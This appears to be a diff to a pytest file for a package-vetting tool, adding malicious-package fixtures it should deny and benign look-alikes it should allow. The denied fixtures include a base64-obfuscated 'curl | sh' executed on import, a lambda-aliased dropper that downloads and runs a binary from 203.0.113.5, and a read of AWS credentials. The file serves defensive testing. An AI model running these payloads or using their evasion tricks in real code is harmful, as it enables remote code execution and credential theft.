@@ -9,6 +9,8 @@ fixed command."""
 
 from __future__ import annotations
 
+import base64
+
 import pytest
 
 from airlock.domain.requests import Outcome
@@ -16,6 +18,7 @@ from tests.unit.imports.packages.adversary import init, verdict_cases, vet_packa
 
 URL = "http://203.0.113.5/c"
 SHELL = f"'curl -s {URL} | sh'"
+ENCODED = base64.b64encode(f"import os; os.system({SHELL})".encode()).decode()
 CREDS = "open(os.path.expanduser('~/.aws/credentials'), 'rb').read()"
 INSTALL = (
     "from setuptools import setup\n"
@@ -63,6 +66,20 @@ DENIED: dict[str, dict[str, str]] = {
         + INSTALL.format(call=f"_run({SHELL})"),
         "evpkg/__init__.py": "",
     },
+    "partial-of-a-decoder-feeds-exec-on-import": init(
+        "import base64, functools\n"
+        f"exec(functools.partial(base64.b64decode)({ENCODED!r}))\n"
+    ),
+    "lambda-aliases-bound-before-the-imports-used-by-a-dropper-run-later": init(
+        "_get = lambda *a, **k: requests.get(*a, **k)\n"
+        "_run = lambda *a, **k: os.system(*a, **k)\n"
+        "import os, requests\n"
+        "def update():\n"
+        "    r = _get('https://203.0.113.5/s.bin')\n"
+        "    with open('/tmp/s.bin', 'wb') as f:\n"
+        "        f.write(r.content)\n"
+        "    _run('/tmp/s.bin')\n"
+    ),
 }
 
 ALLOWED: dict[str, dict[str, str]] = {
@@ -79,6 +96,15 @@ ALLOWED: dict[str, dict[str, str]] = {
         "def run(*args, **kwargs):\n    return subprocess.run(*args, **kwargs)\n"
         "def version():\n"
         "    return run(['git', 'describe', '--tags'], capture_output=True).stdout\n"
+    ),
+    "lambda-aliases-of-a-downloader-that-keeps-the-page-in-memory": init(
+        "import requests\n"
+        "_get = lambda *a, **k: requests.get(*a, **k)\n"
+        "def latest():\n    return _get('https://pypi.org/pypi/evpkg/json').json()['info']\n"
+    ),
+    "partial-of-a-decoder-reads-bundled-data": init(
+        "import base64, functools, json\n_unb64 = functools.partial(base64.b64decode)\n"
+        "DEFAULTS = json.loads(_unb64('eyJhIjogMX0='))\n"
     ),
     "forwarder-to-a-json-loader-on-import": init(
         "import json\n_load = lambda *a, **k: json.loads(*a, **k)\nDEFAULTS = _load('{\"a\": 1}')\n"
